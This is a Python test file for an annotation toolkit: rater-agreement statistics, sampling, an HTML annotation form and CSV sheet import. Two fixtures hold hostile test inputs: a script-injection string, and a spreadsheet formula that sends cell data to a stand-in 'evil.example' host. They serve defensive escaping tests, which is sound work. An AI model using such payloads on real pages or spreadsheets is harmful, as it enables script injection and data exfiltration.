"""Validating the raters: agreement statistics against textbook values, the annotation sample,
the sheets' checks, and agreement with the panel on hand-made annotations."""

from __future__ import annotations

import json
import math
from pathlib import Path

import pandas as pd
import pytest

from bloomqg.annotation.agreement import (
    cohen_kappa,
    cohen_kappa_with_ci,
    confusion_counts,
    krippendorff_alpha_with_ci,
    percent_agreement,
    percent_agreement_with_ci,
    strict_majority,
)
from bloomqg.annotation.form import SHEET_COLUMNS, blank_sheet, render_form
from bloomqg.annotation.panel_agreement import human_panel_agreement, table9_rows
from bloomqg.annotation.reporting import table9
from bloomqg.annotation.sample import annotation_items, sample_cell
from bloomqg.annotation.settings import annotation_settings, judge_validation_settings
from bloomqg.annotation.sheets import AnnotationError, read_sheets
from bloomqg.store.config_schema import Cell, ConfigError
from bloomqg.reporting.display import MISSING
from bloomqg.store.frames import ANNOTATION_ITEMS, VOTES

# --- textbook values -------------------------------------------------------------------------

# Krippendorff (2011), "Computing Krippendorff's Alpha-Reliability", the 4 coders × 12 units
# example with missing values: nominal α = 0.743.
N = None
KRIPPENDORFF_2011 = [
    [1, 2, 3, 3, 2, 1, 4, 1, 2, N, N, N],
    [1, 2, 3, 3, 2, 2, 4, 1, 2, 5, N, 3],
    [N, 3, 3, 3, 2, 3, 4, 2, 2, 5, 1, N],
    [1, 2, 3, 3, 2, 4, 4, 1, 2, 5, 1, N],
]
# The same paper's two coders × ten units of binary data: α = 0.095.
BINARY_A = [0, 1, 0, 0, 0, 0, 0, 0, 1, 0]
BINARY_B = [1, 1, 1, 0, 0, 1, 0, 0, 0, 0]


def _items_by_raters(coders):
    return [list(unit) for unit in zip(*coders)]


def test_krippendorff_alpha_matches_the_worked_examples():
    nominal = krippendorff_alpha_with_ci(_items_by_raters(KRIPPENDORFF_2011), "nominal", n_resamples=0)
    assert round(nominal.value, 3) == 0.743
    assert nominal.n == 11  # unit 12 has a single value: not pairable
    binary = [[a == 1, b == 1] for a, b in zip(BINARY_A, BINARY_B)]
    assert round(krippendorff_alpha_with_ci(binary, "nominal", n_resamples=0).value, 3) == 0.095


def test_cohen_kappa_matches_the_textbook_two_by_two():
    # 50 items: both yes 20, A yes / B no 5, A no / B yes 10, both no 15 -> p_o 0.70, p_e 0.50, κ 0.40.
    a = ["yes"] * 25 + ["no"] * 25
    b = ["yes"] * 20 + ["no"] * 5 + ["yes"] * 10 + ["no"] * 15
    assert percent_agreement(a, b) == pytest.approx(70.0)
    assert cohen_kappa(a, b) == pytest.approx(0.40)


def test_cohen_kappa_edge_cases():
    assert cohen_kappa([True, False], [True, False]) == pytest.approx(1.0)
    assert math.isnan(cohen_kappa([True, True], [True, True]))  # no variation: undefined
    assert cohen_kappa([True, True, False, False], [False, False, True, True]) == pytest.approx(-1.0)
    assert math.isnan(cohen_kappa([None], [True]))  # no item rated by both
    with pytest.raises(ValueError, match="differ in length"):
        cohen_kappa([True], [True, False])


def test_bootstrap_intervals_bracket_the_point_and_repeat_with_the_seed():
    a = [True] * 30 + [False] * 20
    b = [True] * 25 + [False] * 5 + [True] * 5 + [False] * 15
    first = cohen_kappa_with_ci(a, b, n_resamples=300, seed=3)
    again = cohen_kappa_with_ci(a, b, n_resamples=300, seed=3)
    assert first == again and first.n == 50
    assert first.ci_low <= first.value <= first.ci_high
    share = percent_agreement_with_ci(a, b, n_resamples=300, seed=3)
    assert share.value == pytest.approx(80.0) and share.ci_low < 80.0 < share.ci_high


def test_percent_agreement_has_the_exact_interval_not_a_degenerate_bootstrap():
    from bloomqg.metrics.intervals import clopper_pearson

    a = [True] * 30 + [False] * 20
    b = [True] * 25 + [False] * 5 + [True] * 5 + [False] * 15
    low, high = clopper_pearson(40, 50, 0.95)
    share = percent_agreement_with_ci(a, b, n_resamples=300, seed=3)
    assert (share.ci_low, share.ci_high) == pytest.approx((100 * low, 100 * high))
    # every one of 17 items agreeing: a bootstrap prints [100, 100]; the exact interval, how far 17 reach
    unanimous = percent_agreement_with_ci(["Apply"] * 17, ["Apply"] * 17)
    assert unanimous.value == 100.0 and unanimous.ci_high == pytest.approx(100.0)
    assert unanimous.ci_low == pytest.approx(100 * float(clopper_pearson(17, 17, 0.95)[0])) and unanimous.ci_low < 81
    assert math.isnan(percent_agreement_with_ci([None], ["Apply"]).value)


def test_strict_majority_and_confusion():
    assert strict_majority([True, True, False]) is True
    assert strict_majority([True, False]) is None  # a tie
    assert strict_majority(["Apply"]) == "Apply"
    assert strict_majority([None, None]) is None
    counts = confusion_counts(["A", "A", "B", None], ["A", "B", "B", "A"], ["A", "B"])
    assert counts.tolist() == [[1, 1], [0, 1]]
    with pytest.raises(ValueError, match="not one of"):
        confusion_counts(["C"], ["A"], ["A", "B"])


# --- the sample ------------------------------------------------------------------------------


def _votes(model: str, strategy: str, n: int = 12) -> pd.DataFrame:
    rows = []
    for i in range(n):
        rows.append({
            "prompt_id": f"cs-{i:04d}:{strategy}", "item_id": f"cs-{i:04d}", "dataset": "cs",
            "strategy": strategy, "model": model, "original_question": f"What is a stack {i}?",
            "original_bloom_level": "Remember", "original_knowledge_units": ["Stacks"],
            "new_question": None if i == 0 else f"Design a stack that {i}", "identified_bloom_level": None,
            "identified_knowledge_units": None, "parse_status": "ok", "n_judges": 3,
            "unique": i % 3 != 0, "readable": True, "answerable": i % 4 != 0,
            "bloom_level": "Create" if i % 2 else "Apply", "knowledge_units": ["Stacks"],
            "useful": None, "alpha_gated": False,
        })
    frame = pd.DataFrame(rows)
    for column in VOTES.names:
        if column not in frame:
            frame[column] = None
    return frame[VOTES.names]


UNITS = {"cs": ["Stacks", "Queues"]}


def test_sample_is_per_cell_seeded_and_skips_rows_without_a_question():
    cell = _votes("m1", "cot")
    first = sample_cell(cell, 5, seed=1)
    assert len(first) == 5 and first["new_question"].notna().all()
    assert first["prompt_id"].tolist() == sample_cell(cell, 5, seed=1)["prompt_id"].tolist()
    assert sample_cell(cell, 5, seed=2)["prompt_id"].tolist() != first["prompt_id"].tolist()
    assert len(sample_cell(cell, 50, seed=1)) == 11  # all that have a question
    # A cell's draw does not depend on the other cells in the sample.
    alone = annotation_items([cell], items_per_cell=4, seed=1, knowledge_units=UNITS)
    both = annotation_items([cell, _votes("m2", "fgp")], items_per_cell=4, seed=1, knowledge_units=UNITS)
    assert set(alone["prompt_id"]) <= set(both["prompt_id"]) and len(both) == 8


def test_annotators_see_no_verdict_model_or_strategy():
    items = annotation_items([_votes("secret-model", "cot")], items_per_cell=6, seed=0, knowledge_units=UNITS)
    assert list(items.columns) == ANNOTATION_ITEMS.names
    assert items["annotation_id"].tolist() == [f"A{i:04d}" for i in range(1, 7)]
    html = render_form(items, title="t")
    sheet = blank_sheet(items)
    assert list(sheet.columns) == list(SHEET_COLUMNS)
    for text in (html, sheet.to_csv()):
        assert "secret-model" not in text and ":cot" not in text
    payload = json.loads(html.split('id="payload">', 1)[1].split("</script>", 1)[0])
    assert {key for item in payload["items"] for key in item} == {
        "id", "dataset", "original", "original_units", "target_level", "question"}
    assert sheet[["unique", "bloom_level", "annotator"]].eq("").all().all()
    assert "<script src" not in html and "http://" not in html and "https://" not in html


def test_the_form_offers_the_units_the_judges_chose_from_not_only_the_sampled_items():
    """Under limit_items the votes hold 12 originals of one unit; the prepared dataset (what
    the judges' unit list comes from, bloomqg.inputs.datasets.dataset_knowledge_units) holds four."""
    from bloomqg.annotation.sample import judges_unit_lists, knowledge_units_by_dataset
    from bloomqg.inputs.datasets import dataset_knowledge_units

    dataset = pd.DataFrame({"item_id": [f"cs-{i:04d}" for i in range(4)], "dataset": "cs", "source_row": range(1, 5),
                            "question": "q", "bloom_level": "Apply", "bloom_source": "label",
                            "knowledge_units": [["Trees"], ["Stacks"], ["Queues", "Graphs"], ["Stacks"]]})
    votes = _votes("m", "cot")
    assert knowledge_units_by_dataset([votes]) == {"cs": ["Stacks"]}  # what the sample alone shows
    units = judges_unit_lists([dataset])
    assert units == {"cs": dataset_knowledge_units(dataset)} == {"cs": ["Graphs", "Queues", "Stacks", "Trees"]}
    items = annotation_items([votes], items_per_cell=3, seed=0, knowledge_units=units)
    assert all(list(choices) == units["cs"] for choices in items["unit_choices"])
    payload = json.loads(render_form(items, title="t").split('id="payload">', 1)[1].split("</script>", 1)[0])
    assert payload["units"] == units


HOSTILE_TEXTS = ["Explain <!-- a comment", "Close </script><script>alert(1)</script> early",
                 "Open <script> and <!-- then -->", "A & B > C \u2028 line \u2029 para"]


def test_the_form_embeds_texts_that_look_like_html_as_json_the_page_can_parse():
    """``<!--`` was embedded as ``<\\!--`` (not JSON: the form never rendered); now every text
    reads back as it was and no ``<`` reaches the script element's raw text."""
    import subprocess
    import shutil

    votes = _votes("m", "cot", n=len(HOSTILE_TEXTS) + 1)
    votes.loc[1:, "new_question"] = HOSTILE_TEXTS
    votes.loc[1:, "original_question"] = HOSTILE_TEXTS
    items = annotation_items([votes], items_per_cell=len(HOSTILE_TEXTS), seed=0, knowledge_units=UNITS)
    html = render_form(items, title="<!-- title </script>")
    for element in ("payload", "meta"):
        raw = html.split(f'id="{element}">', 1)[1].split("</script>", 1)[0]
        assert "<" not in raw and ">" not in raw and "\u2028" not in raw
        value = json.loads(raw)
        if element == "payload":
            assert sorted(item["question"] for item in value["items"]) == sorted(HOSTILE_TEXTS)
            assert sorted(item["original"] for item in value["items"]) == sorted(HOSTILE_TEXTS)
        else:
            assert value["title"] == "<!-- title </script>"
        node = shutil.which("node")
        if node:  # the browser's own parser, where one is installed
            parsed = subprocess.run([node, "-e", "process.stdout.write(JSON.stringify(JSON.parse("
                                     "require('fs').readFileSync(0, 'utf8'))))"],
                                    input=raw, capture_output=True, text=True, check=True).stdout
            assert json.loads(parsed) == value


def test_an_original_unit_outside_the_list_is_refused():
    with pytest.raises(ValueError, match="not in dataset 'cs'"):
        annotation_items([_votes("m", "cot")], items_per_cell=3, seed=0, knowledge_units={"cs": ["Queues"]})


# --- the sheets ------------------------------------------------------------------------------


@pytest.fixture
def key() -> pd.DataFrame:
    return annotation_items([_votes("m1", "cot"), _votes("m1", "fgp")], items_per_cell=4, seed=5,
                            knowledge_units=UNITS)


def _write_sheet(path: Path, key: pd.DataFrame, answers: dict[str, dict[str, str]], annotator: str) -> Path:
    sheet = blank_sheet(key)
    for item, values in answers.items():
        row = sheet.index[sheet["annotation_id"] == item][0]
        sheet.loc[row, "annotator"] = annotator
        for column, value in values.items():
            sheet.loc[row, column] = value
    sheet.to_csv(path, index=False)
    return path


FULL = {"unique": "yes", "readable": "yes", "answerable": "no", "bloom_level": "Create", "knowledge_units": "Stacks"}


def test_read_sheets_reads_answers_and_skips_blank_rows(tmp_path, key):
    path = _write_sheet(tmp_path / "ann1.csv", key, {"A0001": FULL, "A0003": {**FULL, "knowledge_units": "Stacks; Queues"}}, "ann1")
    ratings = read_sheets([path], key)
    assert len(ratings) == 10 and set(ratings["annotation_id"]) == {"A0001", "A0003"}
    units = ratings[(ratings["annotation_id"] == "A0003") & (ratings["criterion"] == "knowledge_units")]["value"].iloc[0]
    assert units == frozenset({"Stacks", "Queues"})


@pytest.mark.parametrize("change, message", [
    ({"unique": ""}, r"row 2: missing fields \['unique'\]"),
    ({"unique": "maybe"}, r"row 2, column 'unique': 'maybe' is not yes or no"),
    ({"bloom_level": "Synthesise it"}, r"row 2, column 'bloom_level'"),
    ({"knowledge_units": "Heaps"}, r"row 2, column 'knowledge_units': \['Heaps'\] not among"),
])
def test_values_outside_the_rubric_name_file_row_and_column(tmp_path, key, change, message):
    first = key["annotation_id"].iloc[0]
    path = _write_sheet(tmp_path / "bad.csv", key, {first: {**FULL, **change}}, "ann1")
    with pytest.raises(AnnotationError, match=message) as error:
        read_sheets([path], key)
    assert str(path) in str(error.value)


def test_a_cell_over_the_csv_field_limit_names_file_and_row(tmp_path, key):
    # issue 33 point 7: a 5 MB cell raised a bare _csv.Error naming no file or row
    second = key["annotation_id"].iloc[1]
    path = _write_sheet(tmp_path / "huge.csv", key, {second: {**FULL, "knowledge_units": "x" * 5_000_000}}, "ann1")
    with pytest.raises(AnnotationError, match=r"huge\.csv: row 3: cannot be read as CSV .*at most 131072 characters"):
        read_sheets([path], key)


FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2", "@SUM(A1:A2)", "\tTabbed",
                 "\rReturn", "'quoted", "''twice", "'=marked already", "'plain", "plain", "a=b"]


def test_sheet_cells_that_a_spreadsheet_would_run_are_marked_and_read_back_exactly(tmp_path, key):
    """Texts beginning with = + - @ tab CR or ' are written behind a ' (so a spreadsheet shows
    text) by the blank sheet and the form's download alike; the import drops that mark only."""
    import csv
    import shutil
    import subprocess

    from bloomqg.annotation.form import sheet_cell, sheet_text, write_blank_sheet

    marked = [sheet_cell(text) for text in FORMULA_TEXTS]
    assert [cell[0] for cell in marked[:-2]] == ["'"] * (len(FORMULA_TEXTS) - 2) and marked[-2:] == FORMULA_TEXTS[-2:]
    assert [sheet_text(cell) for cell in marked] == FORMULA_TEXTS
    # The blank sheet: a generated question and an original that begin like formulas are marked.
    hostile = key.copy()
    hostile["new_question"] = FORMULA_TEXTS[:len(hostile)]
    hostile["original_question"] = list(reversed(FORMULA_TEXTS))[:len(hostile)]
    sheet_path = tmp_path / "blank.csv"
    write_blank_sheet(hostile, sheet_path)
    with sheet_path.open(encoding="utf-8-sig", newline="") as handle:
        cells = list(csv.DictReader(handle))
    for row, item in zip(cells, hostile.itertuples(index=False)):
        for column, text in (("new_question", item.new_question), ("original_question", item.original_question)):
            assert row[column][0] not in "=+-@\t\r" and row[column] == sheet_cell(text)
    # Filled in (a note that begins like a formula too) and imported: every text as it was.
    with sheet_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    first = rows[1]
    for column, value in {**FULL, "annotator": "ann1", "notes": sheet_cell("=1+1 looks odd")}.items():
        first[header.index(column)] = value
    with (tmp_path / "filled.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    ratings = read_sheets([tmp_path / "filled.csv"], hostile)
    assert set(ratings["notes"]) == {"=1+1 looks odd"}
    # The form's download uses the same rule: its sheetCell, run in Node where it is installed.
    node = shutil.which("node")
    if node:
        html = render_form(hostile, title="t")
        meta = html.split('id="meta">', 1)[1].split("</script>", 1)[0]
        function = next(line for line in html.splitlines() if "function sheetCell(" in line)
        script = (f"const meta = JSON.parse({json.dumps(meta)});\n{function}\n"
                  "const texts = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
                  "process.stdout.write(JSON.stringify(texts.map(sheetCell)));")
        shown = subprocess.run([node, "-e", script], input=json.dumps(FORMULA_TEXTS), capture_output=True,
                               text=True, check=True).stdout
        assert json.loads(shown) == marked


def test_unknown_item_and_repeated_annotator_are_errors(tmp_path, key):
    path = _write_sheet(tmp_path / "a.csv", key, {"A0001": FULL}, "ann1")
    text = path.read_text().replace("A0001", "A9999")
    (tmp_path / "unknown.csv").write_text(text)
    with pytest.raises(AnnotationError, match=r"unknown\.csv: row \d+, column 'annotation_id': unknown item id 'A9999'"):
        read_sheets([tmp_path / "unknown.csv"], key)
    twice = _write_sheet(tmp_path / "b.csv", key, {"A0002": FULL}, "ann1")
    with pytest.raises(AnnotationError, match="annotator 'ann1' already has a sheet"):
        read_sheets([path, twice], key)
    mixed = blank_sheet(key)
    for row, who in ((0, "ann1"), (1, "ann2")):
        mixed.loc[row, "annotator"] = who
        for column, value in FULL.items():
            mixed.loc[row, column] = value
    mixed.to_csv(tmp_path / "mixed.csv", index=False)
    with pytest.raises(AnnotationError, match="row 3, column 'annotator': 'ann2', but this file belongs to 'ann1'"):
        read_sheets([tmp_path / "mixed.csv"], key)
    extra = blank_sheet(key).assign(score="")
    extra.to_csv(tmp_path / "extra.csv", index=False)
    with pytest.raises(AnnotationError, match=r"row 1: unknown columns \['score'\]"):
        read_sheets([tmp_path / "extra.csv"], key)


# --- agreement with the panel on hand-made annotations ---------------------------------------


def _hand_key(n: int = 10) -> pd.DataFrame:
    """Ten items of one cell whose panel says unique = BINARY_B (Krippendorff's second coder)."""
    rows = []
    for i in range(n):
        rows.append({
            "annotation_id": f"A{i + 1:04d}", "prompt_id": f"cs-{i:04d}:fgp", "item_id": f"cs-{i:04d}",
            "dataset": "cs", "strategy": "fgp", "model": "m", "original_question": "q",
            "original_bloom_level": "Apply", "original_knowledge_units": ["Stacks"], "new_question": "nq",
            "unit_choices": ["Stacks", "Queues"], "panel_unique": bool(BINARY_B[i]), "panel_readable": True,
            "panel_answerable": True, "panel_bloom_level": ["Apply", "Create"][i % 2],
            "panel_knowledge_units": ["Stacks"],
        })
    return pd.DataFrame(rows, columns=ANNOTATION_ITEMS.names)


def _ratings(per_annotator: dict[str, dict[str, list]]) -> pd.DataFrame:
    rows = []
    for who, criteria in per_annotator.items():
        for criterion, values in criteria.items():
            for i, value in enumerate(values):
                rows.append({"annotation_id": f"A{i + 1:04d}", "annotator": who, "criterion": criterion,
                             "value": value, "notes": None, "file": f"{who}.csv", "row": i + 2})
    return pd.DataFrame(rows)


def test_agreement_with_the_panel_on_hand_made_annotations():
    key = _hand_key()
    levels = ["Apply", "Create", "Apply", "Apply", "Create", "Create", "Apply", "Create", "Apply", "Create"]
    ratings = _ratings({
        "x": {"unique": [bool(v) for v in BINARY_A], "bloom_level": levels},
        "y": {"unique": [bool(v) for v in BINARY_A], "bloom_level": ["Apply"] * 10},
    })
    result = human_panel_agreement(key, ratings, n_resamples=200, seed=1)
    cell = result[result["model"] == "m"].set_index(["criterion", "rater", "reference", "statistic"])
    # Both annotators say BINARY_A, the panel BINARY_B: they agree on 6 of 10 items.
    share = cell.loc[("unique", "human majority", "panel", "percent_agreement")]
    assert share["value"] == pytest.approx(60.0) and share["n"] == 10
    assert share["ci_low"] <= 60.0 <= share["ci_high"]
    # κ of A against B from the 2×2 table [[5, 3], [1, 1]] (0 = not unique): p_o 0.6, p_e 0.56.
    assert cell.loc[("unique", "x", "panel", "cohen_kappa")]["value"] == pytest.approx((0.6 - 0.56) / 0.44)
    # Krippendorff's binary example: the annotators' majority (A) plus the panel (B) as raters.
    assert cell.loc[("unique", "annotators", "annotators", "krippendorff_alpha")]["value"] == pytest.approx(1.0)
    # Bloom: x agrees with the panel on 8 items ([A,C,A,A,C,C,A,C,A,C] vs [A,C,A,C,...]), y on 5;
    # they agree with each other on items 1, 3, 4, 7, 9 (all "Apply"): the human majority
    # exists only there, and the panel says Apply on four of them.
    bloom = cell.loc[("bloom_level", "human majority", "panel", "percent_agreement")]
    assert bloom["n"] == 5 and bloom["value"] == pytest.approx(80.0)
    assert cell.loc[("bloom_level", "x", "panel", "cohen_kappa")]["value"] == pytest.approx(0.6)
    # The pooled rows repeat the single cell; Table 9 takes the per-cell rows only.
    assert set(result["model"]) == {"m", "all"}
    rows = table9_rows(result)
    assert set(rows["criterion"]) == {"unique", "bloom_level"}  # the others were not annotated


def test_alpha_of_annotators_plus_panel_is_the_textbook_binary_example():
    key = _hand_key()
    ratings = _ratings({"x": {"unique": [bool(v) for v in BINARY_A]}})
    result = human_panel_agreement(key, ratings, n_resamples=0)
    alpha = result[(result["model"] == "m") & (result["criterion"] == "unique")
                   & (result["reference"] == "panel + annotators")]["value"].iloc[0]
    assert round(alpha, 3) == 0.095


def test_table9_says_plainly_when_there_are_no_annotations():
    empty = human_panel_agreement(_hand_key(), _ratings({}), n_resamples=0)
    table = table9(empty, annotations_dir="annotations", n_sheets=0, n_annotators=0)
    assert any("No annotations yet" in note and "annotations" in note for note in table.notes)


# --- settings ----------------------------------------------------------------------------------


def test_settings_name_an_unknown_cell_or_judge():
    config = {"seed": 1, "judges": {"rules": {"backend": "rules"}},
              "annotation": {"cells": ["cs/cot/nope"]}, "judge_validation": {"judges": ["gpt"]}}
    cells = [Cell("cs", "cot", "m")]
    with pytest.raises(ConfigError, match=r"annotation.cells\[0\]: cell 'cs/cot/nope' is not in the source"):
        annotation_settings(config, cells, [])
    with pytest.raises(ConfigError, match=r"judge_validation.judges\[0\]: 'gpt' is not a judges entry"):
        judge_validation_settings(config, cells)
    with pytest.raises(ConfigError, match="needs release_manifest"):
        annotation_settings({**config, "annotation": {"source": "release"}}, cells, [])
    settings = annotation_settings({**config, "annotation": {}}, cells, [])
    assert settings.cells == cells and settings.seed == 1 and settings.root == "results"


def test_the_report_shows_table9_and_its_figure_or_says_there_are_none(tmp_path):
    from bloomqg.annotation.reporting import plot_human_agreement, write_table
    from bloomqg.reporting.report import build_report
    from tests.support.synthetic import synthetic_study

    study = synthetic_study(n_models=1, n_items=6)
    html = {}
    for case, ratings in (("none", _ratings({})),
                          ("some", _ratings({"x": {"unique": [bool(v) for v in BINARY_A]}}))):
        agreement = human_panel_agreement(_hand_key(), ratings, n_resamples=0)
        folder = tmp_path / case
        folder.mkdir()
        table, figure = folder / "table9_human_agreement.json", folder / "human_agreement.png"
        write_table(table9(agreement, annotations_dir="annotations", n_sheets=int(case == "some"),
                           n_annotators=int(case == "some")), [table])
        plot_human_agreement(agreement, figure, annotations_dir="annotations")
        build_report(
            folder / "report.html", config=study.config, all_metrics=study.metrics, votes=study.votes,
            reliability=study.reliability, generations=study.generations, generation_provenance=[],
            judgment_provenance=[], ledger=study.ledger, table_paths=[table], figure_paths=[figure],
            git_commit=None, package_versions={},
        )
        html[case] = (folder / "report.html").read_text(encoding="utf-8")
    assert "No annotations yet: no filled sheet (*.csv) in annotations" in html["none"]
    assert "Table 9" in html["some"] and "No annotations yet" not in html["some"]
    assert "60.00" in html["some"]  # unique: 6 of 10 items agree with the panel
    for page in html.values():
        assert "Table 9 as a figure" in page and "data:image/png;base64," in page
        # the caption names the file written, not an SVG that never was
        assert "<figcaption>File: human_agreement.png</figcaption>" in page and "human_agreement.svg" not in page


def _judgments(votes: pd.DataFrame, judge: str, unique: list[bool]) -> pd.DataFrame:
    from bloomqg.store.frames import CRITERIA, JUDGMENTS

    rows = []
    for (row, value) in zip(votes.itertuples(index=False), unique):
        for criterion in CRITERIA:
            rows.append({
                "prompt_id": row.prompt_id, "item_id": row.item_id, "dataset": row.dataset, "strategy": row.strategy,
                "model": row.model, "judge": judge, "criterion": criterion,
                "value_bool": value if criterion == "unique" else (True if criterion in ("readable", "answerable") else None),
                "value_level": "Create" if criterion == "bloom_level" else None,
                "value_units": ["Stacks"] if criterion == "knowledge_units" else None,
                "status": "ok", "reason": None, "raw_text": None, "cached": None,
                "n_prompt_tokens": None, "n_completion_tokens": None, "cost_usd": None,
            })
    return pd.DataFrame(rows, columns=JUDGMENTS.names)


def test_judge_agreement_keeps_models_apart_and_counts_the_confusion():
    from bloomqg.annotation.judge_validation import judge_agreement

    one, two = _votes("m1", "cot").iloc[1:], _votes("m2", "cot").iloc[1:]  # same prompt ids
    judged = pd.concat([_judgments(one, "j", list(one["unique"])),  # agrees with m1's panel everywhere
                        _judgments(two, "j", [not v for v in two["unique"]])], ignore_index=True)
    agreement, confusion = judge_agreement(pd.concat([one, two]), judged, n_resamples=50)
    share = agreement[(agreement["criterion"] == "unique") & (agreement["statistic"] == "percent_agreement")]
    by_model = share.set_index("model")["value"]
    assert by_model["m1"] == pytest.approx(100.0) and by_model["m2"] == pytest.approx(0.0)
    assert by_model["all"] == pytest.approx(50.0) and share.set_index("model")["n"]["all"] == 22
    kappa = agreement[(agreement["criterion"] == "unique") & (agreement["statistic"] == "cohen_kappa")]
    assert kappa.set_index("model")["value"]["m1"] == pytest.approx(1.0)
    pooled = confusion[confusion["model"] == "all"].set_index(["panel_level", "judge_level"])["count"]
    # The judge says Create everywhere; the panels say Create on odd items, Apply on even ones.
    assert pooled[("Create", "Create")] == 12 and pooled[("Apply", "Create")] == 10 and pooled.sum() == 22


def test_table9_shows_n_per_cell_and_pools_the_last_row_over_items(tmp_path):
    """Two cells, 1 and 9 items: the cells' mean would be 61.11, the items pooled give 3 of 10."""
    from bloomqg.annotation.reporting import plot_human_agreement

    key = _hand_key()
    key.loc[0, "model"] = "small"  # item A0001 alone in its cell
    unique = [bool(v) for v in key["panel_unique"]]
    for i in range(3, 10):  # cell "m": its items 2 and 3 agree with the panel, 7 do not
        unique[i] = not unique[i]
    ratings = _ratings({"x": {"unique": unique}})
    agreement = human_panel_agreement(key, ratings, n_resamples=0)
    table = table9(agreement, annotations_dir="annotations", n_sheets=1, n_annotators=1)
    by_model = {row[0].text: row for row in table.rows}
    assert by_model["small"][4].text == "100.00 (n = 1)"
    assert by_model["m"][4].text == "22.22 (n = 9)"
    assert by_model["All items (pooled)"][4].text == "30.00 (n = 10)"
    pooled = agreement[(agreement["model"] == "all") & (agreement["criterion"] == "unique")
                       & (agreement["statistic"] == "percent_agreement")].iloc[0]
    assert pooled["value"] == pytest.approx(30.0) and pooled["n"] == 10  # the same as pooling the items
    assert by_model["m"][3].text == MISSING  # Bloom: nobody rated it
    assert any("not the mean of the rows" in note for note in table.notes)

    # The figure: bars where a cell has items, "no items" (not a 0% bar) where it has none.
    import matplotlib.pyplot as plt

    drawn = {}
    original = plt.Figure.savefig

    def keep(fig, *args, **kwargs):
        axis = fig.axes[0]
        drawn["bars"] = [round(p.get_height(), 2) for p in axis.patches]
        drawn["texts"] = [t.get_text() for t in axis.texts]
        return original(fig, *args, **kwargs)

    plt.Figure.savefig = keep
    try:
        plot_human_agreement(agreement, tmp_path / "figure.png", annotations_dir="annotations")
    finally:
        plt.Figure.savefig = original
    assert sorted(drawn["bars"]) == [22.22, 100.0] and 0.0 not in drawn["bars"]
    assert drawn["texts"].count("no items") == 2 * 4 and {"n=1", "n=9"} <= set(drawn["texts"])
